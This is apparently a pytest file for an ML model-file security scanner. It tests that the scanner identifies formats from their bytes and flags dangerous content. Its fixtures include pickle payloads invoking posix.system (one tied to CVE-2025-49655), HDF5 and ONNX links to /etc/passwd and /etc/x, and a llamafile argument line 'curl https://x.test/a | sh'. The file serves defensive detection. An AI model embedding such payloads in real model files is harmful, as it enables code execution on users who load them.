"""Whatever a model file is called, its bytes decide which inspector reads it."""

from __future__ import annotations

import base64
import gzip
import io
import json
import pickle
import zipfile

import pytest

from tests.formats import (
    test_executorch,
    test_torch7,
    writers_flatbuffer,
    writers_gguf,
    writers_objects,
    writers_onnx,
    writers_safetensors,
    writers_tensorflow,
)
from tests.formats.inspecting import inspect, kinds, notes, only
from tests.formats.test_coreml import model as coreml
from tests.formats.test_coreml import operator, paddle, program
from tests.formats.writers_hdf5 import H5, external, fixed_text
from trustaudit.filefacts import Coverage, FileFacts
from trustaudit.formats.dispatch import inspect_file


def h5(config: object = None) -> bytes:
    file = H5()
    messages = [(6, external("w", "/etc/passwd"))]
    messages += [(12, fixed_text("model_config", json.dumps(config).encode()))] if config else []
    return file.build(file.header(*messages))


def keras(config: object, *, packed: bool = False, **members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", h5())
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def look(data: bytes, path: str) -> FileFacts:
    return inspect(inspect_file, data, path)


@pytest.mark.parametrize("path", ["model.bin", "notes.txt", "x"])
@pytest.mark.parametrize(
    ("data", "name"),
    [
        (writers_safetensors.honest(), "safetensors"),
        (writers_gguf.honest(), "gguf"),
        (writers_gguf.honest(order=">"), "gguf"),
        (writers_onnx.honest(), "onnx"),
        (h5(), "hdf5"),
        (writers_flatbuffer.tflite([]), "tflite"),
        (test_executorch.program("aten::add"), "executorch"),
        (writers_objects.XDR_3 + writers_objects.r_strings("a"), "r-data"),
        (gzip.compress(writers_objects.XDR_3 + writers_objects.r_strings("a")), "r-data"),
        (b'<?xml version="1.0"?><net name="a" version="11"><layers/></net>', "openvino"),
    ],
)
def test_formats_with_a_signature_are_known_under_any_name(data: bytes, name: str, path: str) -> None:
    facts = look(data, path)
    assert facts.format == name
    assert facts.coverage in (Coverage.COMPLETE, Coverage.STRUCTURE)


@pytest.mark.parametrize(
    ("data", "path", "name"),
    [
        (writers_tensorflow.honest(), "saved_model.pb", "tf-saved-model"),
        (writers_tensorflow.graph(writers_tensorflow.node("a", "Relu", "x")), "frozen.pb", "tf-graph"),
        (coreml(program("@model_path/w.bin")), "m.mlmodel", "coreml"),
        (paddle(operator("relu")), "inference.pdmodel", "paddle-program"),
        (writers_objects.flax(), "flax_model.msgpack", "msgpack"),
        (test_torch7.honest(), "model.t7", "torch7"),
    ],
)
def test_formats_without_a_signature_are_known_by_their_names(data: bytes, path: str, name: str) -> None:
    facts = look(data, path)
    assert facts.format == name
    assert facts.coverage is Coverage.STRUCTURE


LAMBDA = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": ["AAAA", None, None]}}


@pytest.mark.parametrize("packed", [False, True])
@pytest.mark.parametrize("path", ["model.keras", "model.zip", "weights.bin"])
def test_a_keras_archive_is_read_whole(path: str, packed: bool) -> None:
    facts = look(keras(LAMBDA, packed=packed), path)
    assert facts.format == "keras"
    assert only(facts, "keras-lambda-code").member == "config.json"
    assert only(facts, "h5-external-link").member == "model.weights.h5"
    assert only(facts, "keras-metadata").get("keras_version") == "3.8.0"


def test_a_legacy_keras_file_is_read_whole() -> None:
    assert {"keras-lambda-code", "h5-external-link"} <= kinds(look(h5(LAMBDA), "model.h5"))


def test_cve_2025_49655_the_pickle_of_a_wrapped_torch_module_is_read() -> None:
    blob = base64.b64encode(b"cposix\nsystem\n(S'true'\ntR.").decode()
    wrapped = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "t", "module": blob}}
    for facts in (
        look(keras(wrapped), "m.keras"),
        look(h5(wrapped), "m.h5"),
        look(json.dumps(wrapped).encode(), "c.json"),
    ):
        assert [g.qualified for g in facts.globals] == ["posix.system"]


def test_pickles_that_pytables_keeps_in_attributes_are_read() -> None:
    file = H5()
    attribute = fixed_text("non_index_axes", b"cposix\nsystem\n(S'true'\ntR.")
    honest = fixed_text("TITLE", b"cat table of things")
    facts = look(file.build(file.header((12, attribute), (12, honest))), "table.h5")
    assert [g.qualified for g in facts.globals] == ["posix.system"]
    assert only(facts, "h5-pickled-attribute").get("attribute") == "non_index_axes"


def test_rows_that_pytables_unpickles_are_not_taken_for_read() -> None:
    file = H5()
    facts = look(file.build(file.header((12, fixed_text("PSEUDOATOM", b"object")))), "table.h5")
    assert facts.coverage is Coverage.PARTIAL
    assert "h5-object-dataset" in kinds(facts)


def test_a_pickle_beside_the_configuration_is_read() -> None:
    facts = look(keras({"class_name": "Dense", "config": {}}, extra=pickle.dumps(complex(1, 2), 2)), "m.keras")
    assert [g.qualified for g in facts.globals] == ["builtins.complex"]


def test_a_llamafile_tells_its_arguments() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("model.gguf", writers_gguf.honest())
        archive.writestr(".args", "-m\nmodel.gguf\n--host\n0.0.0.0\ncurl https://x.test/a | sh\n")
    facts = look(b"MZqFpD='\n" + bytes(5000) + out.getvalue(), "model.llamafile")
    assert {"executable-content", "llamafile-arguments", "metadata-shell", "gguf-template"} <= kinds(facts)
    assert only(facts, "llamafile-arguments").get("text").startswith("-m\nmodel.gguf")


@pytest.mark.parametrize(
    "suffix", ["safetensors", "gguf", "onnx", "h5", "keras", "tflite", "pb", "msgpack", "json", "pte"]
)
def test_a_pickle_under_the_name_of_a_model_is_read_as_a_pickle(suffix: str) -> None:
    facts = look(b"\x80\x02cposix\nsystem\nX\x04\0\0\0true\x85R.", f"model.{suffix}")
    assert [g.qualified for g in facts.globals] == ["posix.system"]


def test_a_model_inside_an_archive_is_read() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a/model.onnx", writers_onnx.model(writers_onnx.graph([], [writers_onnx.external("/etc/x")])))
        archive.writestr("a/model.gguf", writers_gguf.honest())
        archive.writestr("a/m.safetensors", writers_safetensors.honest())
    facts = look(out.getvalue(), "models.zip")
    assert facts.coverage is Coverage.STRUCTURE
    assert only(facts, "onnx-external-data").member == "a/model.onnx"
    assert {n.member for n in notes(facts, "gguf-template")} == {"a/model.gguf"}
